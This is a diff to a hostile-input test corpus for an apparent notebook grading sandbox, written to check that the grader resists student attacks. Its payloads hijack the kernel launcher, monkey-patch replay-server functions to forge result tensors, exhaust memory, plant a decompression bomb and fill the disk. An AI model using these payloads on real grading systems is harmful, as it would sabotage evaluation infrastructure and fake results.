@@ -1,11 +1,12 @@
 """The attack code of the hostile corpus (tests/hostile.py): what a student writes into a cell
 or puts beside the notebook. Each payload is source text; the comments say what it tries.
 None of it may work: the tests check that nothing it aims at changes."""
+
 from __future__ import annotations
 
 from textwrap import dedent
 
-DAEMON_MARK = "bn-hostile-daemon"   # in the command line of every process the daemons start
+DAEMON_MARK = "bn-hostile-daemon"  # in the command line of every process the daemons start
 
 
 # ------------------------------------------------------------ 1. files a Python in the folder imports
@@ -31,8 +32,8 @@ def pwn(course: str, tag: str, victim: str) -> str:
 
 
 def shadow_kit(course: str, tag: str, victim: str) -> str:
-    """grader/sandbox.py: the kernel launcher is `python -m grader.sandbox` started in the
-    student's folder; after the damage it hands over to the real one, so nothing looks wrong."""
+    """grader/sandbox/__main__.py: the kernel launcher is `python -I -m grader.sandbox` started in
+    the student's folder; after the damage it hands over to the real one, so nothing looks wrong."""
     return pwn(course, tag, victim) + dedent("""\
         import sys
         _os.execv(sys.executable, [sys.executable, '-I', '-m', 'grader.sandbox', *sys.argv[1:]])
@@ -140,10 +141,13 @@ def daemons(tag: str) -> str:
 
 
 # ------------------------------------------------------------ 5. crafted result tensors
-# The replay runs as `python -m grader.replay_server`: its module is __main__, the kit's other
-# replay modules are grader.replay*. Every function of theirs that is handed the run's result
-# tensors (a dict of tensors; not the inputs of manual_backward, which have `Xb`) gets them
-# replaced by `craft` first. `after` may rewrite what it returned or wrote.
+# The replay runs as `python -I -m grader.sandboxed.server`: its module is __main__, the kit's
+# other modules in a run are grader.sandboxed.* (runner, record, ...; nothing else of the kit but
+# grader.exercise is visible in the sandbox). Every function of theirs that is handed the run's
+# result tensors (a dict of tensors; not the inputs of manual_backward, which have `Xb`) gets
+# them replaced by `craft` first; `after` may rewrite what it returned or wrote (encode_frame's
+# frame). A function is replaced under every name these modules bind it to: the server calls
+# grader.sandboxed.record's encode_frame by the name it imported.
 _PATCH_REPLAY = dedent("""\
     import sys, torch
     if 'ipykernel' not in sys.modules:
@@ -162,21 +166,30 @@ _PATCH_REPLAY = dedent("""\
                 return after(args, out)
             return wrapper
 
-        for _mod in [m for n, m in list(sys.modules.items()) if n == '__main__' or n.startswith('grader.replay')]:
+        _mods = [m for n, m in list(sys.modules.items())
+                 if n == '__main__' or n.startswith('grader.sandboxed')]
+        _names, _wrapped = {m.__name__ for m in _mods}, {}
+        for _mod in _mods:
             for _name, _f in list(vars(_mod).items()):
-                if callable(_f) and not isinstance(_f, type) and getattr(_f, '__module__', '') == _mod.__name__:
-                    setattr(_mod, _name, _wrap(_f))""")
+                if callable(_f) and not isinstance(_f, type) and getattr(_f, '__module__', '') in _names:
+                    if id(_f) not in _wrapped:
+                        _wrapped[id(_f)] = _wrap(_f)
+                    setattr(_mod, _name, _wrapped[id(_f)])""")
 
-CRAFT_EXPAND = dedent("""\
+CRAFT_EXPAND = (
+    dedent("""\
     import torch
     def craft(tensors):  # seven 1 GiB views of one float: a judge that copies them runs out
         for k in ('C', 'W1', 'b1', 'W2', 'b2', 'bngain', 'bnbias'):
             tensors['train/' + k] = torch.zeros(1).expand(2**28)
     def after(args, out):
         return out
-    """) + _PATCH_REPLAY
+    """)
+    + _PATCH_REPLAY
+)
 
-CRAFT_HALF = dedent("""\
+CRAFT_HALF = (
+    dedent("""\
     import torch
     _big = torch.zeros(12000, 4500, dtype=torch.float16)  # 108 MB, under every key
     def craft(tensors):
@@ -184,21 +197,27 @@ CRAFT_HALF = dedent("""\
             tensors[k] = _big
     def after(args, out):
         return out
-    """) + _PATCH_REPLAY
+    """)
+    + _PATCH_REPLAY
+)
 
-CRAFT_HUGE = dedent("""\
+CRAFT_HUGE = (
+    dedent("""\
     import torch
     def craft(tensors):  # 2**60 elements each, in 4 bytes of storage
         for k in tensors:
             tensors[k] = torch.zeros(1).expand(2**20, 2**20, 2**20)
     def after(args, out):
         return out
-    """) + _PATCH_REPLAY
+    """)
+    + _PATCH_REPLAY
+)
 
 # A decompression bomb: torch.save's archive re-packed with deflate, each training parameter a
 # 128 MiB storage of zeros that is ~130 kB compressed. The pickle is torch.save's own for
 # placeholder tensors of 12345 elements, with 12345 (pickled as b'M90') raised to the bomb's size.
-CRAFT_BOMB = dedent("""\
+CRAFT_BOMB = (
+    dedent("""\
     import io, os, struct, zipfile, zlib
     from pathlib import Path
     import torch
@@ -239,7 +258,9 @@ CRAFT_BOMB = dedent("""\
                 if pts:
                     pts[-1].write_bytes(_bomb(pts[-1].read_bytes()))
         return out
-    """) + _PATCH_REPLAY
+    """)
+    + _PATCH_REPLAY
+)
 
 
 # ------------------------------------------------------------ 6. the disk
@@ -257,7 +278,9 @@ FILL_DISK = dedent("""\
 
 
 # ------------------------------------------------------------ 7. the training point without learning
-NO_LEARNING = "return [10 * p for p in (C, W1, b1, W2, b2, bngain, bnbias)]  # lr 0.1: every parameter becomes 0"
+NO_LEARNING = (
+    "return [10 * p for p in (C, W1, b1, W2, b2, bngain, bnbias)]  # lr 0.1: every parameter becomes 0"
+)
 
 
 # ------------------------------------------------------------ 8. markup and escape codes
